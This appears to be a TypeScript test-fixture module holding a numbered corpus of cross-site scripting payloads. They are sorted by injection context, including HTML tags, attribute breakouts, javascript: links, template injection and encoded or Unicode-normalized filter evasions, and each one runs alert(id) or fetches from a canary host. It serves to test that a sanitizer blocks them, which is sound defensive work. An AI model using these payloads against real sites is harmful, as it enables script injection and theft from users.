/** Where an unsafe page would put a text, so that what is in it runs. */
export type Sink =
  | 'html'
  | 'double'
  | 'single'
  | 'bare'
  | 'link'
  | 'scriptDouble'
  | 'scriptSingle'
  | 'scriptEscaped'
  | 'scriptTemplate'
  | 'style'
  | 'styleAttribute'
  | 'title'
  | 'textarea'
  | 'comment'
  | 'markdown'
  | 'template'
  | 'lexical'
  | 'decoded'
  | 'normalized';

/** A text that does something where a page takes it for more than a text. */
export type Attack = { readonly id: number; readonly sink: Sink; readonly text: string };

/** The host that nothing of ours ever calls. */
export const canaryHost = 'canary.example.org';

/** `JS` is what would run, and `URL` what would be fetched; by both it is known which one it was. */
const corpus: Readonly<Record<Sink, readonly string[]>> = {
  html: [
    '<script>JS</script>',
    '<SCRIPT SRC=//URL.js></SCRIPT>',
    '<script src="data:text/javascript,JS"></script>',
    '<script type=module>JS</script>',
    '<svg><script>JS</script></svg>',
    '<svg><script href="data:,JS"></script></svg>',
    '<img src=x onerror=JS>',
    '<img src=x onerror="&#x61;lert(ID)">',
    '<img/src="x"/onerror=JS>',
    '<IMG SRC=x OnErRoR=JS//',
    '<img src="//URL.png">',
    '<img srcset="//URL.png 1x">',
    '<svg onload=JS>',
    '<svg/onload=JS//',
    '<svg><animate onbegin=JS attributeName=x dur=1s>',
    '<svg><set onbegin=JS attributeName=x>',
    '<svg><image href="//URL.svg"/></svg>',
    '<svg><style>@import "//URL.css"</style></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=JS>">',
    '<noscript><p title="</noscript><img src=x onerror=JS>">',
    '<body onload=JS>',
    '<input autofocus onfocus=JS>',
    '<textarea autofocus onfocus=JS></textarea>',
    '<b contenteditable tabindex=0 autofocus onfocus=JS>x</b>',
    '<details open ontoggle=JS>',
    '<video><source onerror=JS></video>',
    '<video poster="//URL.png"></video>',
    '<audio src=x onerror=JS></audio>',
    '<iframe src="javascript:parent.JS"></iframe>',
    '<iframe srcdoc="<script>parent.JS</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=parent.JS&gt;"></iframe>',
    '<iframe src="//URL.html"></iframe>',
    "<iframe src='data:text/html,<script src=http://URL.js></script>'></iframe>",
    '<object data="//URL.html"></object>',
    '<embed src="//URL.html">',
    '<link rel=stylesheet href="//URL.css">',
    '<link rel=prefetch href="//URL.js"><link rel=preload as=image href="//URL.png">',
    '<style>@import url(//URL.css);</style>',
    '<style>*{background:url(//URL.png)}</style>',
    '<div style="background:url(//URL.png)">x</div>',
    '<style>@keyframes k{}</style><p style="animation-name:k" onanimationstart=JS>x</p>',
    '<meta http-equiv=refresh content="0;url=//URL.html">',
    '<base href="//URL/"><img src=x.png>',
    '<a autofocus href=# onfocus=JS>x</a>',
    '<x onfocus=JS tabindex=1 autofocus>x</x>',
    '<template shadowrootmode=open><img src=x onerror=JS></template>',
    '<table background="//URL.png"><tr><td>x</table>',
    '<scr\u00adipt>JS</scr\u00adipt><img src=x onerror=JS>',
    '<script\u000cx>JS</script>',
    '<!--><img src=x onerror=JS>-->',
    '<![CDATA[><img src=x onerror=JS>]]>',
    '<p title="\u202e"><img src=x onerror=JS>',
  ],
  double: [
    '" autofocus onfocus=JS x="',
    '"><img src=x onerror=JS>',
    '"><script>JS</script>',
    '"/autofocus/onfocus="JS',
  ],
  single: ["' autofocus onfocus=JS x='", "'><svg onload=JS>", "'><script>JS</script>"],
  bare: ['x autofocus onfocus=JS', 'x\u000cautofocus\u000confocus=JS', '><svg/onload=JS>'],
  link: [
    'javascript:JS',
    'JaVaScRiPt:JS',
    ' \u0001javascript:JS',
    'java\tscript:JS',
    'javascript://%0aJS',
    'javascript:/*--></title></style></textarea></script><svg/onload=JS>*/JS',
    'javascript&colon;JS',
    '&#106;avascript:JS',
    '//URL.html',
  ],
  scriptDouble: ['";JS;//', '</script><svg onload=JS>'],
  scriptSingle: ["';JS;//", "'-JS-'"],
  scriptEscaped: ['\\";JS;//'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is to be taken for one
  scriptTemplate: ['${JS}', '`;JS;//'],
  style: ['red}</style><svg onload=JS>', 'red}*{background:url(//URL.png)}'],
  styleAttribute: ['red;background:url(//URL.png)', 'red" autofocus tabindex=1 onfocus="JS'],
  title: ['</title><svg onload=JS>'],
  textarea: ['</textarea><img src=x onerror=JS>'],
  comment: ['--><svg onload=JS>', '--!><svg onload=JS>'],
  markdown: ['[x](javascript:JS)', '![x](//URL.png)', '![x](x"onerror="JS)', '<javascript:JS>'],
  template: [
    "{{constructor.constructor('JS')()}}",
    "{{[].map.constructor('JS')()}}",
    "<%= constructor.constructor('JS')() %>",
    "#{constructor.constructor('JS')()}",
  ],
  lexical: [
    '{"type":"link","fields":{"url":"javascript:JS"}}',
    '{"type":"html","html":"<img src=x onerror=JS>"}',
    '{"type":"upload","value":{"url":"//URL.png"}}',
  ],
  decoded: [
    '&lt;img src=x onerror=JS&gt;',
    '&#60;svg onload=JS&#62;',
    '&amp;lt;img src=x onerror=JS&amp;gt;',
    '%3Csvg%20onload%3DJS%3E',
    '\\u003csvg onload=JS\\u003e',
    '\\x3csvg onload=JS\\x3e',
  ],
  normalized: ['＜svg onload=JS＞', '﹤img src=x onerror=JS﹥'],
};

const isSink = (name: string): name is Sink => Object.hasOwn(corpus, name);

/** All of them: each is numbered, and says its number when it runs. */
export const attacks: readonly Attack[] = Object.keys(corpus)
  .filter(isSink)
  .flatMap((sink) => corpus[sink].map((template) => [sink, template] as const))
  .map(([sink, template], id) => ({
    id,
    sink,
    text: template
      .replaceAll('JS', `alert(${id})`)
      .replaceAll('ID', String(id))
      .replaceAll('URL', `${canaryHost}/${id}`),
  }));

/** Returns as many of them, spread evenly over all. */
export function someAttacks(count: number): readonly Attack[] {
  const step = Math.max(1, attacks.length / count);
  return attacks.filter((_, index) => Math.floor(index / step) !== Math.floor((index - 1) / step));
}
